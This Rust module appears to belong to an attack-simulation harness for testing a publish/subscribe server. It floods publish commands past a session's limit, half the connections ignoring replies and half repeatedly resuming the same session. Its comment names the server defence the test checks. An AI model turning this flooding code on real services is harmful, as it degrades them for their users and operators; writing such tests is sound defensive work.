//! Publishes far more than a session is allowed to. Every other connection keeps publishing regardless of the
//! replies; the others resume the same session again and again, and send a hundred publishes each time.
//!
//! The attack costs 60 bytes per publish. A server should count the commands of a session over all its
//! connections, refuse the ones above the limit cheaply, and close a client that does not stop.

use std::rc::Rc;

use super::{Attacker, BATCH_COMMANDS, CommandBatch};

pub(super) async fn run(attacker: Rc<Attacker>, index: u32) {
    let publish = |id| format!(r#"{{"id":{id},"publish":{{"channel":"abuse-{index}","data":0}}}}"#);
    let batch = CommandBatch::of((1..=BATCH_COMMANDS).map(publish));
    if index.is_multiple_of(2) {
        publish_regardless(&attacker, &batch).await
    } else {
        publish_and_resume(&attacker, &batch).await
    }
}

async fn publish_regardless(attacker: &Attacker, batch: &CommandBatch) -> ! {
    loop {
        let Some(mut session) = attacker.open(None).await else { continue };
        attacker.flood(&mut session, &batch.frames, batch.commands.into()).await;
    }
}

async fn publish_and_resume(attacker: &Attacker, batch: &CommandBatch) -> ! {
    let mut ticket = None;
    loop {
        let Some(mut session) = attacker.open(ticket.as_ref()).await else {
            ticket = None;
            continue;
        };
        attacker.send_batch(&mut session, batch).await;
        ticket = Some(session.greeting.ticket.clone());
    }
}
